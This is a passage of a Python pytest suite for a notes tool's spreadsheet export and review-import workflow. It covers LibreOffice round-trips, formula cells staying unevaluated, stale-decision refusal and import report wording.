    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if not soffice:
        if os.environ.get("CI") == "true":
            pytest.fail("soffice (LibreOffice) is required in CI: install libreoffice-calc-nogui")
        pytest.skip("soffice not found: install libreoffice-calc-nogui")
    profile = workdir / "lo-profile"
    (profile / "user").mkdir(parents=True)
    (profile / "user" / "registrymodifications.xcu").write_text(_RECALC_XCU)
    outdir = workdir / "lo-out"
    outdir.mkdir()
    env = {k: v for k, v in os.environ.items() if k != "DBUS_SESSION_BUS_ADDRESS"}
    env["HOME"] = str(workdir)
    subprocess.run([soffice, "--headless", "--norestore", f"-env:UserInstallation=file://{profile}",
                    "--convert-to", "xlsx", "--outdir", str(outdir), str(xlsx)],
                   check=True, timeout=240, capture_output=True, env=env)
    result = outdir / xlsx.name
    assert result.is_file(), "LibreOffice wrote no file"
    return result


@pytest.mark.libreoffice
def test_libreoffice_keeps_text_as_text_and_sums_agree(note_cmd, peers, tmp_path):
    a, b = peers
    path = a / "notes/2026/11/N-2026-11-23-C001-1.toml"
    text = path.read_text()
    data = tomllib.loads(text)
    for key in ("intervention", "response", "plan"):
        text = text.replace(f"{key} = {json.dumps(data[key])}", f"{key} = {json.dumps(FORMULAS[key])}")
    path.write_text(text)
    out = tmp_path / "review.xlsx"
    assert note_cmd("export", "--out", out, a, b).exit_code == 0
    saved = _through_libreoffice(out, tmp_path)

    values = openpyxl.load_workbook(saved, data_only=True)
    sheet = values["Notes"]
    r = row_of(sheet, "N-2026-11-23-C001-1", "ws")
    for key in ("intervention", "response", "plan"):
        assert sheet.cell(r, col(key.capitalize())).value == FORMULAS[key]  # never evaluated
    summary = values["Summary"]
    for c in range(3, 8):  # the live totals, computed by LibreOffice, agree with peerkit's
        assert summary.cell(4, c).value == summary.cell(2, c).value + summary.cell(3, c).value
    assert summary.cell(2, 3).value + summary.cell(3, 3).value == sheet.max_row - 1

    # decisions typed into the LibreOffice-saved file still import
    filled = tmp_path / "filled.xlsx"
    decide(saved, filled, {("N-2026-11-20-C001-2", "casey"): ("approved", None)})
    result = note_cmd("import-review", filled, "--reviewer", "Pat Supervisor")
    assert result.exit_code == 0, result.output
    assert note_toml(b, "N-2026-11-20-C001-2")["status"] == "approved"


def test_submitting_after_the_export_does_not_break_the_fingerprint(run, ws_path, tmp_path):
    import tomllib

    import openpyxl

    out = tmp_path / "review.xlsx"
    assert run("note", "export", "--from", "2026-11-21", "--to", "2026-11-21", "--out", out).exit_code == 0
    assert run("note", "submit", "N-2026-11-21-C003-2").exit_code == 0
    wb = openpyxl.load_workbook(out)
    ws = wb.worksheets[0]
    headers = [c.value for c in ws[1]]
    for row in ws.iter_rows(min_row=2):
        if row[headers.index("Note")].value == "N-2026-11-21-C003-2":
            row[headers.index("Decision")].value = "approved"
    wb.save(out)
    result = run("note", "import-review", out, "--reviewer", "Pat Supervisor")
    assert result.exit_code == 0, result.output
    data = tomllib.loads((ws_path / "notes" / "2026" / "11" / "N-2026-11-21-C003-2.toml").read_text())
    assert data["status"] == "approved" and data["review"]["reviewer"] == "Pat Supervisor"


# --------------------------------------------------------------------------- staleness (issue 12)


def test_an_older_workbook_cannot_undo_a_newer_decision(note_cmd, peers, tmp_path):
    a, b = peers
    nid = "N-2026-11-23-C001-1"
    older, newer = tmp_path / "a.xlsx", tmp_path / "b.xlsx"
    assert note_cmd("export", "--out", older, a, b).exit_code == 0
    assert note_cmd("export", "--out", newer, a, b).exit_code == 0
    denied, approved = tmp_path / "b-filled.xlsx", tmp_path / "a-filled.xlsx"
    decide(newer, denied, {(nid, "ws"): ("denied", "Goal missing")})
    decide(older, approved, {(nid, "ws"): ("approved", None),
                             (nid, "casey"): ("approved", None)})
    result = note_cmd("import-review", denied, "--reviewer", "Pat Supervisor")
    assert result.exit_code == 0, result.output
    assert note_toml(a, nid)["status"] == "denied"
    row = row_of(openpyxl.load_workbook(approved)["Notes"], nid, "ws")
    before = note_toml(a, nid)

    result = note_cmd("import-review", approved, "--reviewer", "Pat Supervisor", "--partial")
    assert result.exit_code == 1, result.output
    assert f"row {row}: note {nid}: received a newer review decision" in result.output
    assert note_toml(a, nid) == before  # still denied, same review table
    # the other workspace's row was valid and is recorded
    assert note_toml(b, nid)["status"] == "approved"

    # without --partial: refused too, nothing written
    result = note_cmd("import-review", approved, "--reviewer", "Pat Supervisor")
    assert result.exit_code == 3
    assert note_toml(a, nid) == before


def test_import_report_names_the_workspace_old_and_new_status_and_sums_up_per_peer(
        note_cmd, peers, exported, tmp_path):
    a, b = peers
    filled = tmp_path / "filled.xlsx"
    decide(exported, filled, {
        ("N-2026-11-23-C001-1", "ws"): ("approved", None),
        ("N-2026-11-20-C001-2", "ws"): ("denied", "Plan is missing the next step"),
        ("N-2026-11-23-C001-1", "casey"): ("approved", None),
    })
    wb = openpyxl.load_workbook(filled)["Notes"]
    r1 = row_of(wb, "N-2026-11-23-C001-1", "ws")
    r2 = row_of(wb, "N-2026-11-20-C001-2", "ws")
    r3 = row_of(wb, "N-2026-11-23-C001-1", "casey")
    result = note_cmd("import-review", filled, "--reviewer", "Pat Supervisor")
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    assert (f"row {r1}: note N-2026-11-23-C001-1: signed -> approved (recorded) -- "
            "workspace ws (Jordan Rivera)") in lines
    assert (f"row {r2}: note N-2026-11-20-C001-2: submitted -> denied (recorded) -- "
            "workspace ws (Jordan Rivera)") in lines
    assert (f"row {r3}: note N-2026-11-23-C001-1: signed -> approved (recorded) -- "
            "workspace casey (Casey Example)") in lines
    assert lines[-2:] == [
        "workspace casey (Casey Example): 1 approved and 0 denied recorded, 0 unchanged, 0 refused",
        "workspace ws (Jordan Rivera): 1 approved and 1 denied recorded, 0 unchanged, 0 refused"]
